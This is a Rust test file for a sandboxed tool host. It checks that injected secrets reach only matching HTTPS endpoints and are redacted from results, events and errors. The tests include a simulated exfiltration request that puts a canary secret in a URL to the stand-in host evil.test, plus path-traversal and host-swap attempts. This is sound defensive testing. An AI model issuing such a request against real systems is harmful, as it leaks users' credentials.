//! Secrets are put into the requests that they are for, and are visible nowhere else.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use fumehood::permission::Injection;
use fumehood::permission::http::HttpLimits;
use fumehood::{Call, CallResult, Grant, Host, Load, Observed};
use fumehood_tests::{answering, contract};
use serde_json::json;

use super::names::trusting;
use super::server::{Server, ok};
use super::stage::{DetailedRequest, LOCAL, Names, Stage, answer, bearer, local, requests, secret};

const VALUE: &str = "s3cr3t/canary+42";

/// Checks that no part of a result has the value in any spelling.
fn is_silent(result: &CallResult) {
    let shown = format!("{result:?} {}", serde_json::to_string(result).unwrap());
    for spelling in [VALUE, "s3cr3t%2Fcanary%2B42", &BASE64_STANDARD.encode(VALUE)] {
        assert!(!shown.contains(spelling), "{shown}");
    }
}

#[tokio::test]
async fn a_secret_goes_where_it_is_for_and_replaces_what_the_guest_set() {
    let (builder, config) = trusting("api.test");
    let server = Server::start_tls(config, |stream, _| ok(stream, "ok"));
    let at = server.at("api.test");
    let grant = requests(&[&format!("GET,POST https://{at}/**")], LOCAL, HttpLimits::default())
        .with_secret(secret("api", VALUE, &format!("https://{at}/v1/**"), bearer()))
        .unwrap();
    let stage = Stage::with(builder, grant).await;
    let own: &[_] = &[("authorization", "Bearer mine"), ("Authorization", "second"), ("x-other", "kept")];
    for path in ["/v1/a", "/v2/a", "/v1", "/v10"] {
        let request = format!("GET https://{at}{path}");
        let result = stage.ask(DetailedRequest { headers: own, ..DetailedRequest::new(&request) }).await;
        assert_eq!(answer(&result).0, 200);
        is_silent(&result);
    }
    for head in server.seen.heads() {
        let is_for_it = head.starts_with("GET /v1 ") || head.starts_with("GET /v1/a ");
        let expected = format!("authorization: Bearer {VALUE}\r\n");
        assert_eq!(head.contains(&expected), is_for_it, "{head}");
        assert_eq!(head.matches("authorization").count(), usize::from(is_for_it), "{head}");
        assert!(head.contains("x-other: kept"), "{head}");
    }
}

/// Row 46: secret-redirect.
#[tokio::test]
async fn no_other_host_port_scheme_or_path_gets_it() {
    let (builder, config) = trusting("api.test");
    let encrypted = Server::start_tls(config, |stream, _| ok(stream, "ok"));
    let plain = Server::start(|stream, _| ok(stream, "ok"));
    let [api, other, open, literal] =
        [encrypted.at("api.test"), plain.at("other.test"), plain.at("api.test"), plain.at("127.0.0.1")];
    let rules = [format!("GET https://{api}/**"), format!("GET http://{other}/**"), format!("GET http://{open}/**")];
    let rules = [&rules[..], &[format!("GET http://{literal}/**")]].concat();
    let rules: Vec<&str> = rules.iter().map(String::as_str).collect();
    let target = format!("https://{api}/v1/**");
    let grant = requests(&rules, LOCAL, HttpLimits::default())
        .with_secret(secret("api", VALUE, &target, bearer()))
        .and_then(|grant| grant.with_secret(secret("key", VALUE, &target, Injection::query("key").unwrap())))
        .unwrap();
    let stage = Stage::with(builder, grant).await;
    let own: &[_] = &[("authorization", "Bearer {secret}")];
    for request in [
        format!("GET http://{other}/v1/a?key={{secret}}"),
        format!("GET http://{open}/v1/a"),
        format!("GET http://{literal}/v1/a"),
        format!("GET https://{api}/v2/a"),
        format!("GET https://{api}/v1/../v2/a"),
        format!("GET https://{api}/V1/a"),
    ] {
        let result = stage.ask(DetailedRequest { headers: own, ..DetailedRequest::new(&request) }).await;
        assert_eq!(answer(&result).0, 200, "{request}");
    }
    let heads = [encrypted.seen.heads(), plain.seen.heads()].concat();
    assert_eq!(heads.len(), 6);
    for head in heads {
        assert!(!head.contains("s3cr3t") && !head.contains("authorization") && !head.contains("key="), "{head}");
    }
}

#[tokio::test]
async fn a_secret_in_a_parameter_is_encoded_and_replaces_what_the_guest_set() {
    let (builder, config) = trusting("api.test");
    let server = Server::start_tls(config, |stream, _| ok(stream, "ok"));
    let at = server.at("api.test");
    let grant = requests(&[&format!("GET https://{at}/**")], LOCAL, HttpLimits::default())
        .with_secret(secret("key", VALUE, &format!("https://{at}/**"), Injection::query("key").unwrap()))
        .unwrap();
    let stage = Stage::with(builder, grant).await;
    let result = stage.fetch(&format!("GET https://{at}/a?x=1&key=mine&k%65y=other&y=%41")).await;
    assert_eq!(answer(&result).0, 200);
    assert!(
        server.seen.head().starts_with("GET /a?x=1&y=%41&key=s3cr3t%2Fcanary%2B42 HTTP/1.1\r\n"),
        "{}",
        server.seen.head()
    );
}

#[tokio::test]
async fn without_encryption_a_secret_goes_only_to_an_address_that_was_named() {
    let server = Server::start(|stream, _| ok(stream, "ok"));
    let at = server.at("api.test");
    let grant = local(&[&format!("GET http://{at}/**")]);
    let grant = grant.with_secret(secret("api", VALUE, &format!("http://{at}/**"), bearer())).unwrap();
    let stage = Stage::new(grant).await;
    assert_eq!(answer(&stage.fetch(&format!("GET http://{at}/")).await).0, 200);
    assert!(server.seen.head().contains(VALUE));
}

/// Row 62: secret-echo. The server sends the guest its own secret in every spelling, and the host redacts it in the
/// result.
#[tokio::test]
async fn a_secret_that_a_server_tells_the_guest_is_not_told_further() {
    let server = Server::start(|stream, head| {
        let value = head.lines().find_map(|line| line.strip_prefix("authorization: Bearer ")).unwrap_or("none");
        let inside = BASE64_STANDARD.encode(format!("user:{value}:pass"));
        let form = value.replace('/', "%2F").replace('+', "%2B");
        ok(stream, &format!("raw {value} base64 {} inside {inside} form {form}", BASE64_STANDARD.encode(value)));
    });
    let at = server.at("echo.test");
    let grant = local(&[&format!("GET http://{at}/**")]);
    let grant = grant.with_secret(secret("api", VALUE, &format!("http://{at}/**"), bearer())).unwrap();
    let stage = Stage::new(grant).await;
    let result = stage.fetch(&format!("GET http://{at}/")).await;
    is_silent(&result);
    let text = answer(&result).1;
    assert_eq!(text.matches("[secret api]").count(), 4, "{text}");
    // A refused request is reported, and its URL may contain what the guest learned.
    let refused = stage.fetch(&format!("GET http://evil.test/{VALUE}")).await;
    is_silent(&refused);
    assert!(refused.error().unwrap().hint.as_ref().unwrap().contains("[secret api]"), "{refused:?}");
}

#[tokio::test]
async fn results_and_errors_of_the_contract_are_looked_through_too() {
    let tool = [contract::ToolDescription::new("say")];
    let make = |answer| answering(&tool, answer).unwrap();
    let programs = [
        ("text", make(contract::Answer::Text(VALUE.as_bytes()))),
        ("json", make(contract::Answer::Json(br#"{"v":"s3cr3t\/canary+42"}"#))),
        ("failure", make(contract::Answer::Failure(1, VALUE))),
    ];
    let grant = || {
        let grant = local(&["GET http://api.test/**"]);
        grant.with_secret(secret("api", VALUE, "http://api.test/**", bearer())).unwrap()
    };
    let host = Host::builder().resolver(Names::local()).concurrency(4).build().unwrap();
    for (name, bytes) in programs {
        host.load(Load::bytes(name, bytes).grant(grant())).await.unwrap();
        let result = host.call(Call::new(format!("{name}__say"), json!({}))).await;
        is_silent(&result);
        assert!(format!("{:?}", result.outcome).contains("[secret api]"), "{result:?}");
    }
}

/// Row 62 as well: log lines and progress before the result.
#[tokio::test]
async fn what_a_guest_says_while_it_runs_has_no_secret_in_it() {
    let grant = local(&["GET http://api.test/**"]);
    let grant = grant.with_secret(secret("api", VALUE, "http://api.test/**", bearer())).unwrap();
    let host = Host::builder().resolver(Names::local()).concurrency(4).build().unwrap();
    let program = contract("tell-secret").unwrap();
    host.load(Load::bytes("it", program.clone()).grant(grant)).await.unwrap();
    host.load(Load::bytes("other", program)).await.unwrap();
    let mut events = host.subscribe();
    let mut said = async |tool: &str| {
        let result = host.call(Call::new(tool, json!({}))).await;
        assert!(result.is_ok(), "{result:?}");
        let mut said = vec![serde_json::to_string(&result).unwrap()];
        while let Some(Observed::Event(event)) = events.try_next() {
            said.push(serde_json::to_string(&event).unwrap());
        }
        said
    };
    let clean = r"raw [secret api], base64 [secret api], url [secret api]";
    let heard = said("it__tell").await;
    for spelling in [VALUE, "s3cr3t%2Fcanary%2B42", &BASE64_STANDARD.encode(VALUE)] {
        assert!(heard.iter().all(|said| !said.contains(spelling)), "{heard:?}");
    }
    let of = |kind: &str| {
        let event = format!("\"event\":\"{kind}\"");
        heard.iter().find(|said| said.contains(&event)).unwrap_or_else(|| panic!("{kind}: {heard:?}"))
    };
    assert_eq!(of("log").matches(clean).count(), 1);
    assert_eq!(of("progress").matches(clean).count(), 2, "the message, and the part that is ready");
    assert_eq!(of("finished").matches(clean).count(), 1);
    // The same program without the secret prints the value, so there is something to redact.
    let heard = said("other__tell").await;
    assert!(heard.iter().filter(|said| said.contains(VALUE)).count() >= 4, "{heard:?}");
}

#[tokio::test]
async fn a_tool_learns_of_its_own_secrets_that_they_are_there_and_of_others_nothing() {
    let grant = |name: &str| {
        let rules = local(&["GET http://api.test/**"]);
        rules.with_secret(secret(name, VALUE, "http://api.test/**", bearer())).unwrap()
    };
    let host = Host::builder().resolver(Names::local()).concurrency(4).build().unwrap();
    let program = contract("ask-secrets").unwrap();
    for (name, grant, expected) in
        [("it", grant("mine"), "100"), ("other", grant("theirs"), "010"), ("none", Grant::none(), "000")]
    {
        host.load(Load::bytes(name, program.clone()).grant(grant)).await.unwrap();
        let result = host.call(Call::new(format!("{name}__ask"), json!({}))).await;
        assert_eq!(result.text().as_deref(), Some(expected), "{name}: {result:?}");
        assert!(result.metadata.refused.is_empty(), "{name}: {result:?}");
    }
}

#[tokio::test]
async fn a_tool_without_secrets_may_say_what_looks_like_one() {
    let server = Server::start(|stream, _| ok(stream, VALUE));
    let at = server.at("echo.test");
    let stage = Stage::new(local(&[&format!("GET http://{at}/**")])).await;
    assert_eq!(answer(&stage.fetch(&format!("GET http://{at}/")).await).1, VALUE);
}
